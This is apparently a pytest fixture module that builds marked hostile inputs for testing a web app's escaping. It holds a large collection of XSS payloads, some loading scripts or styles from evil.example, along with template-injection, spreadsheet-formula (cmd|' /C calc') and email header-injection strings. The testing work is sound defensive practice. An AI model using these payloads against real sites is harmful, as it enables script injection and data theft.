"""Hostile input for every path where user text appears (tests/test_hostile_payloads.py).

Each payload carries a marker unique to it (``xss001``…): the assertions in
tests/xss_assertions.py tell markup built from a payload from the site's own markup by it.
In the texts below, ``MARK`` stands for the marker.
"""

from dataclasses import dataclass

import pytest

RAW = {
    "script": [
        "<script>alert('MARK')</script>",
        "<SCRIPT>alert('MARK')</SCRIPT>",
        "<ScRiPt>alert('MARK')</sCrIpT>",
        "<script src=//evil.example/MARK.js></script>",
        "<scr<script>ipt>alert('MARK')</scr</script>ipt>",
        "<script>alert('MARK')",
        "<<script>alert('MARK');//<</script>",
        "<script/xss>alert('MARK')</script>",
        "<script\n>alert('MARK')</script\n>",
        "<!--<script>alert('MARK')</script>-->",
        "<![CDATA[<script>alert('MARK')</script>]]>",
        "<noscript><p title=\"</noscript><img src=x onerror=alert('MARK')>\">",
    ],
    "breakout": [
        "\"><script>alert('MARK')</script>",
        "'><img src=x onerror=alert('MARK')>",
        "</textarea><script>alert('MARK')</script>",
        "</title><script>alert('MARK')</script>",
        "--><script>alert('MARK')</script>",
        "]]><script>alert('MARK')</script>",
        "</script><script>alert('MARK')</script>",
        "</style><script>alert('MARK')</script>",
        "\" autofocus onfocus=\"alert('MARK')",
        "' onmouseover='alert(MARK)' x='",
    ],
    "event": [
        "<img src=x onerror=alert('MARK')>",
        "<IMG SRC=x OnError=alert('MARK')>",
        "<img/src=\"x\"/onerror=alert('MARK')>",
        "<img src=x onerror=\"alert('MARK')\"//",
        "<body onload=alert('MARK')>",
        "<div onmouseover=\"alert('MARK')\">hover</div>",
        "<input autofocus onfocus=alert('MARK')>",
        "<details open ontoggle=alert('MARK')>",
        "<video><source onerror=alert('MARK')></video>",
        "<a href=# onclick=alert('MARK')>x</a>",
    ],
    "svg-math": [
        "<svg onload=alert('MARK')>",
        "<svg><script>alert('MARK')</script></svg>",
        "<svg><a xlink:href=\"javascript:alert('MARK')\"><text>x</text></a></svg>",
        "<svg><animate onbegin=alert('MARK') attributeName=x dur=1s>",
        "<svg><a><set attributeName=href to=\"javascript:alert('MARK')\"/><text>x</text></a></svg>",
        "<svg><style><img src=x onerror=alert('MARK')></style></svg>",
        "<math><mtext><table><mglyph><style><img src=x onerror=alert('MARK')>",
        "<math href=\"javascript:alert('MARK')\">x</math>",
    ],
    "url": [
        "<a href=\"javascript:alert('MARK')\">x</a>",
        "<a href=JaVaScRiPt:alert('MARK')>x</a>",
        "<a href=\"&#106;avascript:alert('MARK')\">x</a>",
        "<a href=\"&#x6A;&#x61;vascript:alert('MARK')\">x</a>",
        "<a href=\"java\tscript:alert('MARK')\">x</a>",
        "<a href=\"java&Tab;script:alert('MARK')\">x</a>",
        "<a href=\" \x01javascript:alert('MARK')\">x</a>",
        "<a href=\"%6Aavascript:alert('MARK')\">x</a>",
        '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">MARK</a>',
        "<a href=\"vbscript:msgbox('MARK')\">x</a>",
        "<img src=\"javascript:alert('MARK')\">",
        "<form action=javascript:alert('MARK')><button>x</button></form>",
        "<button formaction=javascript:alert('MARK')>x</button>",
        "javascript:alert('MARK')",
    ],
    "embed": [
        "<iframe srcdoc=\"<script>alert('MARK')</script>\">",
        "<iframe src=javascript:alert('MARK')>",
        "<object data=\"javascript:alert('MARK')\">",
        "<embed src=\"data:image/svg+xml,<svg onload=alert('MARK')>\">",
        '<base href="//evil.example/MARK/">',
        '<meta http-equiv="refresh" content="0;url=javascript:alert(\'MARK\')">',
        "<link rel=stylesheet href=//evil.example/MARK.css>",
    ],
    "style": [
        "<style>@import 'http://evil.example/MARK.css';</style>",
        "<div style=\"background:url(javascript:alert('MARK'))\">x</div>",
        "<div style=\"width:expression(alert('MARK'))\">x</div>",
        '<p style="background-image:u\\72 l(//evil.example/MARK)">x</p>',
    ],
    "template": [
        "{{ 7*7 }}MARK",
        "{% debug %}MARK",
        "{{constructor.constructor('alert(\"MARK\")')()}}",
        "${alert('MARK')}#{7*7}",
    ],
    "csv": [
        '=HYPERLINK("http://evil.example/MARK","Open")',
        "+cmd|' /C calc'!MARK",
        "-2+3+cmd|' /C calc'!MARK",
        "@SUM(1+1)*cmd|' /C calc'!MARK",
        "\t=1+1 MARK",
        "\r=1+1 MARK",
    ],
    "encoded": [
        "\u202e<script>alert('MARK')</script>",
        "MARK\u202egpj.exe",
        "<scr\u200bipt>alert('MARK')</scr\u200bipt>",
        "\uff1cscript\uff1ealert('MARK')\uff1c/script\uff1e",
        "&lt;script&gt;alert('MARK')&lt;/script&gt;",
        "&#60;img src=x onerror=alert('MARK')&#62;",
        "%3Cscript%3Ealert('MARK')%3C/script%3E",
        "\\u003cscript\\u003ealert('MARK')\\u003c/script\\u003e",
        "+ADw-script+AD4-alert('MARK')+ADw-/script+AD4-",
    ],
    "long": [
        "<svg onload=alert('MARK')>" + "A" * 6000 + "<script>alert('MARK')</script>",
        '"' * 3000 + "><img src=x onerror=alert('MARK')>",
    ],
    "control": [
        "\x00<script>alert('MARK')</script>",
        "<img src=x o\x00nerror=alert('MARK')>",
        "<scr\x00ipt>alert('MARK')</scr\x00ipt>",
        "MARK\r\nBcc: MARK@evil.example",
        "MARK\r\nContent-Type: text/html\r\n\r\n<script>alert('MARK')</script>",
        "MARK\nSubject: hijacked",
        "MARK\x0bpasted\x0cfrom\x1b[31ma word processor\x08",
    ],
}


@dataclass(frozen=True)
class Payload:
    kind: str
    marker: str
    text: str

    def __str__(self):
        return self.text

    @property
    def id(self):
        return f"{self.marker}-{self.kind}"

    def fit(self, limit):
        """The payload cut to `limit` characters, keeping both ends (where the markup is)."""
        if len(self.text) <= limit:
            return self.text
        head = limit // 2
        return self.text[:head] + self.text[len(self.text) - (limit - head) :]

    def storable(self, limit=None):
        """As a model field holds it: databases such as PostgreSQL refuse NUL characters."""
        text = self.fit(limit) if limit else self.text
        return text.replace("\x00", "")


def _build():
    payloads = []
    for kind, texts in RAW.items():
        for text in texts:
            marker = f"xss{len(payloads) + 1:03d}"
            payloads.append(Payload(kind, marker, text.replace("MARK", marker)))
    return payloads


PAYLOADS = _build()
MARKERS = tuple(payload.marker for payload in PAYLOADS)
# The first payload of each kind, for tests that take one of each.
FIRST_OF_EACH_KIND = tuple({payload.kind: payload for payload in reversed(PAYLOADS)}.values())
# Every payload as a parameter: `make check` takes the first of each kind, `make test` all of
# them (the others are marked slow).
EACH_PAYLOAD = [
    pytest.param(
        payload, id=payload.id, marks=[] if payload in FIRST_OF_EACH_KIND else [pytest.mark.slow]
    )
    for payload in PAYLOADS
]
